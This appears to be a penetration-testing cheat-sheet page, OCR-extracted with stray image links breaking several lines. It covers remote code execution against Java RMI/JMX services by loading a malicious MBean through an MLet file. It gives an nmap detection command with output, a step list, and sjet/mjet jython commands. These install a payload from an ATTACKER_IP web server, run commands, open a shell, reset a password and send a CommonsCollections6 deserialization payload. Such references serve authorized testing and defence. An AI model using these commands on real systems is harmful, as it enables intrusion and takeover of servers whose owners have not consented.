Java RMI

Java RMI #

The attacker can host a MLet file and instruct the JMX service to load MBeans from the remote host.

Exploitation #

Requirements #• Jython
  • The JMX server can connect to a http service that is controlled by the attacker
  • JMX authentication is not enabled

Detection #

$ nmap -sV --script "rmi-dumpregistry or rmi-vuln-classloader" -p TARGET_PORT TARGET_IP -Pn -v
1089/tcp open  java-rmi Java RMI
| rmi-vuln-classloader:
|   RMI registry default configuration remote code execution vulnerability
|     State:VULNERABLE
|       Default configuration of RMI registry allowsloading classes from remote URLs which can lead to remote code execution.
| rmi-dumpregistry:
|   jmxrmi

Remote Command Execution #

The attack involves the following steps:

  • Starting a web server that hosts the MLet and a JAR file with the malicious MBeans
  • Creating a instance of the MBean on the target server, using JMX
  • Invoking the “getMBeansFromURL” method of the MBean instance, passing the webserver URL as parameter. The JMX service will connect to the http server and parse the MLet file.
  • The JMX service downloads and loades the JAR files that were referenced in the MLet file, making the malicious MBean available overJMX.
  • The attackerfinally invokes methods from the malicious MBean.

Exploit the JMX using sjet or mjet

jython TARGET_IP TARGET_PORT super_secret install http://ATTACKER_IP:8000 8000
jython TARGET_IP TARGET_PORT super_secret command "ls -la"
jython TARGET_IP TARGET_PORTsuper_secret shell
jython TARGET_IP TARGET_PORT super_secret password this-is-the-new-password
jython TARGET_IP TARGET_PORT super_secret uninstall
jython --jmxrole admin --jmxpassword adminpassword TARGET_IP TARGET_PORT deserialize CommonsCollections6 "touch /tmp/xxx"

jython TARGET_IP TARGET_PORT install super_secret http://ATTACKER_IP:80008000
jython TARGET_IPTARGET_PORT command super_secret "whoami"
jython TARGET_IP TARGET_PORT commandsuper_secret shell

References #